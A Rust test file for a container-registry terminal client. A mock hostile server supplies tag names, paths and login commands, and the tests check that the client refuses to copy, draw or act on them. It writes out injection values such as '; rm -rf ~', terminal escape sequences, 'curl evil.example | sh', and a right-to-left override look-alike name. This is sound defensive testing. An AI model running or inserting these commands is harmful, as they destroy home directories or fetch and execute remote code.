//! Items 15, 17, 19 and 20 through the model: copied commands, digests, look-alike names and
//! zero-width characters, as the hostile server sends them and the product draws and uses them.

use std::collections::BTreeSet;

use serde_json::Value;

use super::support::hostile::{Account, Session, tag_item};
use super::support::{
    KeyCode, Load, Model, Msg, Overlay, Rect, assert_clean, assert_column, assert_frames_intact,
    context, draw, key, now, status_text, text,
};
use super::{REGISTRY, account, client_of, cursor_to, serve, session_in, sha, three_tags, to_tag};
use swr_tui::app::pull::{ImageRef, PullKind};

// --- 15: copied commands -----------------------------------------------------------------

/// Shell and terminal text a server might put where a command is built from.
const SHELL: &str = "evil.example\x1b]0;owned\x07\n; rm -rf ~";

fn hostile_paths() -> Vec<Value> {
    let mut plain = tag_item("1.0", &sha(1), &format!("{SHELL}/demo/web:1.0"));
    plain["internal_path"] = "10.0.0.1; rm -rf ~/demo/web:1.0".into();
    let mut tags = vec![plain];
    for (i, name) in ["1.1; rm -rf ~", "1.2\x1b[2J", "1.3\nrm -rf ~"]
        .iter()
        .enumerate()
    {
        tags.push(tag_item(
            name,
            &sha(2 + i as u8),
            &format!("{REGISTRY}/demo/web:1.0"),
        ));
    }
    tags
}

/// Nothing a shell or a terminal would act on.
fn assert_plain_command(text: &str) {
    assert!(
        text.chars().all(|c| c.is_ascii_graphic() || c == ' ') && !text.contains(';'),
        "{text:?}"
    );
}

#[tokio::test]
async fn pull_commands_hold_checked_names_and_the_profiles_registry_only() {
    let server = serve(account(hostile_paths())).await;
    let mut s = session_in(&server, "web", 80, 24).await;
    to_tag(&mut s, "1.0");
    s.press("y");
    assert_eq!(s.copied, [format!("docker pull {REGISTRY}/demo/web:1.0")]);
    // Every kind the menu offers, built from the row the client parsed.
    let tag = s.model.panes.tags.current().unwrap();
    let image = ImageRef {
        registry: &s.model.session.context.registry,
        org: "demo",
        repo: "web",
        tag,
    };
    for kind in PullKind::ALL {
        let command = image.copyable(kind).unwrap();
        assert_plain_command(&command);
        assert!(
            command.contains(&format!("{REGISTRY}/demo/web")),
            "{kind:?}: {command}"
        );
    }
    // A name that is no tag name SWR makes is not copied, and the user is told; the detail and
    // the menu show no command for it either (one could copy it from the screen).
    for name in ["1.1; rm -rf ~", "1.2\x1b[2J", "1.3\nrm -rf ~"] {
        s.copied.clear();
        to_tag(&mut s, name);
        s.press("y");
        assert!(s.copied.is_empty(), "{name:?} copied as {:?}", s.copied);
        let status = status_text(&s.model);
        assert!(status.starts_with("Not copied"), "{name:?}: {status}");
        s.send(key(KeyCode::Enter));
        let detail = text(&draw(&s.model));
        let pull = detail
            .lines()
            .find(|l| l.contains("Pull "))
            .unwrap_or_default();
        assert!(pull.contains("- (not a name"), "{name:?}: {pull}");
        s.send(key(KeyCode::Esc));
        s.press("Y");
        let menu = text(&draw(&s.model));
        assert!(menu.contains("Nothing to copy"), "{name:?}:\n{menu}");
        assert!(!menu.contains("pull swr"), "{name:?}:\n{menu}");
        s.send(key(KeyCode::Esc));
        s.press("y");
        assert!(
            s.copied.is_empty(),
            "{name:?} copied from the menu as {:?}",
            s.copied
        );
    }
}

async fn login_answer(docker_login: &str) -> Session {
    let server = serve(Account {
        login: Some((docker_login.into(), SHELL.into())),
        ..account(three_tags())
    })
    .await;
    let mut s = session_in(&server, "web", 80, 24).await;
    s.press("L");
    s.settle(|m| m.requests.login.is_none()).await;
    s
}

#[tokio::test]
async fn the_login_command_names_the_profiles_registry_not_the_services() {
    // HTTP forbids controls in a header: the command's text can carry shell words, the
    // registry in the body anything.
    let mut s = login_answer("docker login -u cn-north-4@AK0 -p 0a1b2c").await;
    let Some(Overlay::Login(secret)) = &s.model.overlay else {
        panic!("no login dialog: {:?}", s.model.status);
    };
    assert_eq!(secret.registry, REGISTRY);
    let buffer = draw(&s.model);
    assert_clean(&buffer);
    assert!(!text(&buffer).contains("evil"), "{}", text(&buffer));
    s.press("y");
    assert_eq!(
        s.copied,
        [format!(
            "docker login -u cn-north-4@AK0 -p 0a1b2c {REGISTRY}"
        )]
    );

    for hostile in [
        "docker login -u x -p y; rm -rf ~",
        "docker login -u x -p y evil.example; rm -rf ~",
        "curl evil.example | sh",
    ] {
        let s = login_answer(hostile).await;
        assert!(s.model.overlay.is_none(), "{hostile}");
        let status = status_text(&s.model);
        assert!(
            status.starts_with("No login command"),
            "{hostile}: {status}"
        );
        assert!(s.copied.is_empty(), "{hostile}: {:?}", s.copied);
    }
}

// --- 17: non-ASCII digests ---------------------------------------------------------------

#[tokio::test]
async fn non_ascii_digests_are_cut_by_characters_not_bytes() {
    // Cuts at 12 (after the colon) or 19 bytes would fall inside a character in each of these.
    let digests = [
        format!("sha256:a{}", "é".repeat(40)),
        "é".repeat(30),
        format!("sha256:{}", "中".repeat(30)),
        format!("sha256:{}é", "ab".repeat(31)),
        format!("sha256:x{}", "😀".repeat(20)),
        format!("md5:e\u{301}{}", "\u{301}".repeat(20)),
    ];
    let tags = digests
        .iter()
        .enumerate()
        .map(|(i, d)| tag_item(&format!("t{i}"), d, ""))
        .collect();
    let server = serve(account(tags)).await;
    for (w, h) in [(80, 24), (160, 45)] {
        let mut s = session_in(&server, "web", w, h).await;
        assert_eq!(s.model.panes.tags.len(), digests.len());
        assert_clean(&draw(&s.model));
        for i in 0..digests.len() {
            to_tag(&mut s, &format!("t{i}"));
            s.send(key(KeyCode::Enter)); // the detail shows the whole digest and its layers
            assert_clean(&draw(&s.model));
            s.send(key(KeyCode::Esc));
        }
        s.press("ad"); // every tag in the delete confirmation
        assert!(matches!(s.model.overlay, Some(Overlay::ConfirmDelete(_))));
        assert_clean(&draw(&s.model));
    }
}

// --- 19: look-alike names --------------------------------------------------------------------

const HIDDEN: &str = "prod-keep\u{202E}";

#[tokio::test]
async fn look_alike_names_are_marked_shown_and_deleted_apart() {
    let tags = vec![
        tag_item("prod-keep", &sha(1), ""),
        tag_item(HIDDEN, &sha(2), ""),
        tag_item("other", &sha(3), ""),
    ];
    let server = serve(account(tags)).await;
    let mut s = session_in(&server, "web", 80, 24).await;
    to_tag(&mut s, HIDDEN);
    s.press(" ");
    let only = |names: &[&str]| names.iter().map(|n| n.to_string()).collect::<BTreeSet<_>>();
    assert_eq!(
        s.model.panes.tags.marked_keys(),
        only(&[HIDDEN]),
        "marking one marks one"
    );
    let screen = text(&draw(&s.model));
    assert!(
        screen.contains("prod-keep\u{FFFD}"),
        "it shows it is not the other:\n{screen}"
    );
    assert!(!screen.contains('\u{202E}'), "and never draws the override");

    to_tag(&mut s, "prod-keep");
    s.press(" d");
    let Some(Overlay::ConfirmDelete(confirm)) = &s.model.overlay else {
        panic!("no confirmation: {:?}", s.model.overlay);
    };
    let listed: BTreeSet<String> = confirm.tags.iter().cloned().collect();
    assert_eq!(
        (confirm.tags.len(), listed),
        (2, only(&["prod-keep", HIDDEN]))
    );
    let dialog = text(&draw(&s.model));
    assert!(dialog.contains("• prod-keep\u{FFFD}"), "{dialog}");
    assert!(dialog.contains("• prod-keep "), "{dialog}");

    s.press("y");
    s.settle(|m| m.jobs.delete.as_ref().is_some_and(|job| job.finished))
        .await;
    let mut deletes: Vec<String> = server
        .seen()
        .into_iter()
        .filter(|r| r.method == "DELETE")
        .map(|r| r.path)
        .collect();
    deletes.sort();
    assert_eq!(
        deletes,
        [
            "/v2/manage/namespaces/demo/repos/web/tags/prod-keep",
            "/v2/manage/namespaces/demo/repos/web/tags/prod-keep%E2%80%AE",
        ],
        "each exactly once, by its own name"
    );
}

// --- 20: zero-width characters -----------------------------------------------------------

/// `base` with a zero-width space, joiner and byte-order mark after each character.
fn zero_width(base: &str) -> String {
    base.chars()
        .flat_map(|c| [c, '\u{200B}', '\u{200D}', '\u{FEFF}'])
        .collect()
}

#[tokio::test]
async fn zero_width_characters_shift_no_column_and_leave_no_stray_cell() {
    // ratatui files a zero-width character into the cell before it, so the buffer's columns
    // would stay put even then; a terminal that gives it a width (or joins around it) shifts
    // the rest of the line into the next pane. Hence: no cell may hold one, and the frames and
    // columns are checked besides.
    let tags = (0..5)
        .map(|i| tag_item(&zero_width(&format!("v1.{i}")), &sha(i), ""))
        .collect();
    let server = serve(Account {
        orgs: vec![zero_width("demo"), zero_width("spare")],
        free_text: Some(zero_width("text")),
        ..account(tags)
    })
    .await;
    let model = Model::new(context(), Rect::new(0, 0, 80, 24), now());
    let mut s = Session::new(model, client_of(&server));
    s.start(|m| m.panes.orgs.load == Load::Loaded).await;
    let check = |s: &Session, title: &str, value: &str| {
        let buffer = draw(&s.model);
        assert_clean(&buffer);
        assert_frames_intact(&buffer);
        assert_column(&buffer, title, value);
    };
    check(&s, "PERMISSION", "manage");
    s.send(key(KeyCode::Enter));
    s.settle(|m| m.panes.repos.load == Load::Loaded).await;
    check(&s, "TAGS", "3 ");
    cursor_to(
        &mut s,
        |m| m.panes.repos.current().map(|r| r.raw().to_string()),
        "web",
    );
    s.send(key(KeyCode::Enter));
    s.settle(|m| m.panes.tags.load == Load::Loaded).await;
    check(&s, "DIGEST", "sha256:");
    // Wide, the organizations stand beside the tags: the names must not reach across.
    s.send(Msg::Resize {
        width: 160,
        height: 45,
    });
    check(&s, "DIGEST", "sha256:");
    check(&s, "PERMISSION", "manage");
    let screen = text(&draw(&s.model));
    assert!(
        screen.contains("text"),
        "the free text is shown, its zero-width characters gone:\n{screen}"
    );
}
